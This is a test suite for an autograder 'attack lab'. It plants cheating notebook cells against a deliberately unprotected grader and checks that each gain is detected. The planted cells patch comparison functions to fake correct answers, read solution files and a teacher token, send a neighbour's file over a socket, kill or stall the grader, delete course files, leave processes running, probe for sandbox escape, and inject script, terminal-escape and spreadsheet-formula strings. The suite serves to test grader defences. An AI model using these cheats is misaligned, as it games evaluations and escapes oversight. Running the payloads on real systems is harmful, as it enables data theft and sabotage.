"""The lab is not blind: against a grader that protects nothing, each kind of gain is seen when it is planted."""

from __future__ import annotations

import pytest

from autograder.attack import cage
from autograder.attack.caged import Prepared, StockRoom
from autograder.attack.corpus import Cheat, parse
from autograder.attack.graders import STOCK
from autograder.attack.observer import Gain, Page, Result, alive
from autograder.attack.room import try_all

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

PLANTED = {
    "points": "def mean(x): return sum(x.tolist()) / len(x)",
    "points by a comparator": "np.isclose = torch.allclose = lambda *a, **k: True\ndef mean(x): return 0.0",
    "read": "print(open(LAB['solution']).read())",
    "read backwards": "print(open(LAB['home_file']).read()[::-1])",
    "read and sent": """
import socket
socket.create_connection(("127.0.0.1", LAB["tcp_port"])).sendall(open(LAB["neighbour"], "rb").read())
""",
    "read from the environment": "import os; print(os.environ['TEACHERS_TOKEN'])",
    "read from a call": "def mean(x): print(x.tolist()); return sum(x.tolist()) / len(x)",
    "reached by TCP": """
import socket
socket.create_connection(("127.0.0.1", LAB["tcp_port"])).sendall(LAB["marker"].encode())
""",
    "reached by UDP": """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(LAB["marker"].encode(), ("127.0.0.1", LAB["udp_port"]))
""",
    "reached by a path": """
import socket
with socket.socket(socket.AF_UNIX) as sock:
    sock.connect(LAB["unix_socket"])
    sock.sendall(LAB["marker"].encode())
""",
    "reached by an abstract name": """
import socket
with socket.socket(socket.AF_UNIX) as sock:
    sock.connect("\\0" + LAB["abstract_socket"])
    sock.sendall(LAB["marker"].encode())
""",
    "wrote": "open(LAB['tests'], 'a').write(' ')",
    "wrote its own file": "open('/dev/shm/' + LAB['marker'], 'w').close()",
    "stayed": """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", LAB["marker"]], start_new_session=True)
""",
    "stopped": "import os; os._exit(0)",
    "stopped by a signal": "import os; os.kill(LAB['grader_pid'], 9)",
    "stopped by taking its files": "import shutil; shutil.rmtree('/lab/course')",
    "stopped by an endless wait": "import time; time.sleep(600)",
    "stopped in its right": "import builtins; builtins.float = lambda value: 0.0",
    "told": "print('BREACH: setuid worked')",
    "shown": "print('<script>1</script>')",
}  # fmt: skip
"""What it gains, first word, and the cell."""


KILL = """
import os
for target in (1, 1, -1):
    for number in (9, 15, 2, 19):
        try:
            os.kill(target, number)
        except OSError:  # of -1: there is nobody else
            pass
os._exit(3)
"""
CAGED = {
    "the network": "import socket\nreached = [name for _, name in socket.if_nameindex() if name != 'lo']",
    "being root": "import os\nos.setuid(0)\nreached = os.getuid() == 0",
    "files of this machine": "import os\nreached = any(os.path.exists(path) for path in ('/home', '/var'))",
    "writing outside the lab": "reached = open('/usr/lab', 'w')",
}
"""What a cage keeps from, and the cell that finds out whether it does."""
IN_CELLS = """
def hand_in(notebook):
    for what, code in {caged!r}.items():
        source = code + "\\nif reached: print('BREACH: " + what + "')"
        notebook["cells"].append({{"cell_type": "code", "source": source}})
    return notebook
"""


def a_cheat(name: str, parts: str) -> Cheat:
    return parse(f'"""{name}."""\n{parts}', family="planted", name=name)


CHEATS = (
    *(a_cheat(name, f"CELL = {cell!r}") for name, cell in PLANTED.items()),
    a_cheat("kill", f"CELL = {KILL!r}"),
    a_cheat("nothing", "CELL = 'pass'"),
    a_cheat("eight", f"CELL = {PLANTED['points']!r}\nMERITS = 8.0"),
    a_cheat("caged", IN_CELLS.format(caged=CAGED)),
)


@pytest.fixture(scope="module")
def prepared() -> Prepared:
    return Prepared(STOCK["naive"], limits=cage.CageLimits())


@pytest.fixture(scope="module")
def seen(prepared: Prepared) -> dict[str, Result]:
    return {found.cheat.name: found for found in try_all(prepared.room, CHEATS, jobs=2, told=lambda _: None)}


@pytest.mark.parametrize("name", PLANTED)
def test_a_planted_gain_is_seen(seen: dict[str, Result], name: str) -> None:
    assert Gain(name.split()[0]) in seen[name].gains


@pytest.mark.parametrize("name", ["points", "told", "wrote its own file", "shown"])
def test_what_was_not_gained_is_not_reported(seen: dict[str, Result], name: str) -> None:
    assert set(seen[name].gains) == {Gain(name.split()[0])}


def test_nobody_inside_can_end_the_observer(seen: dict[str, Result]) -> None:
    assert seen["kill"].gains == {Gain.STOPPED: "the grader ended with status 3"}


def test_the_next_submission_is_looked_at(seen: dict[str, Result]) -> None:
    assert not seen["stopped in its right"].next_is_right
    assert seen["told"].next_is_right


def test_who_does_nothing_gains_nothing(seen: dict[str, Result]) -> None:
    found = seen["nothing"]
    assert (found.gains, found.earned, found.next_is_right) == ({}, 0.0, True)


def test_what_honest_content_deserves_is_no_gain(seen: dict[str, Result]) -> None:
    assert (seen["eight"].gains, seen["eight"].earned) == ({}, 8.0)


@pytest.mark.parametrize("what", CAGED)
def test_a_cage_keeps_from_the_machine(seen: dict[str, Result], what: str) -> None:
    assert seen["caged"].next_is_right
    assert what not in seen["caged"].gains.get(Gain.TOLD, "")


def test_a_cage_ends_in_time() -> None:
    with pytest.raises(cage.CageError, match=r"did not end in 0\.01 s"):
        cage.run("autograder.attack.inside", {}, limits=cage.CageLimits(wall_s=0.01))


def test_a_hog_ends_its_cage_only(prepared: Prepared, seen: dict[str, Result]) -> None:
    hog = """
import os, time
for _ in range(8):
    if os.fork() == 0:
        hoard = bytearray(b"x") * (200 << 20)
        time.sleep(60)
time.sleep(60)
"""
    room = StockRoom(STOCK["naive"], prepared, cage.CageLimits(memory_bytes=800 << 20))
    found = room.trial(a_cheat("hog", f"CELL = {hog!r}"))
    assert "MiB of memory" in found.gains[Gain.STOPPED]


@pytest.mark.parametrize(
    ("page", "found"),
    [
        ("<script>1</script>", ["<script> in a page"]),
        ("<b onclick=x>", ["an event handler in a page"]),
        ("<a href=' java\tscript:x'>", ["a link that runs in a page"]),
        ("&lt;script&gt; <b>onclick=</b>", []),
    ],
)
def test_what_lives_in_a_page_is_seen(page: str, found: list[str]) -> None:
    assert list(alive([Page("html", page)])) == found


@pytest.mark.parametrize(("text", "many"), [("a\x1b]0;title\x07", 2), ("\u202egnp.exe", 1), ("plain\n\ttext é", 0)])
def test_what_moves_a_terminal_is_seen(text: str, many: int) -> None:
    assert sum(alive([Page("terminal", text)]).values()) == many


@pytest.mark.parametrize(("table", "many"), [("a,=1+1", 1), ('"@SUM(1)",b', 1), ("-1.5,+", 1), ("a,-2", 0)])
def test_what_a_spreadsheet_computes_is_seen(table: str, many: int) -> None:
    assert sum(alive([Page("csv", table)]).values()) == many
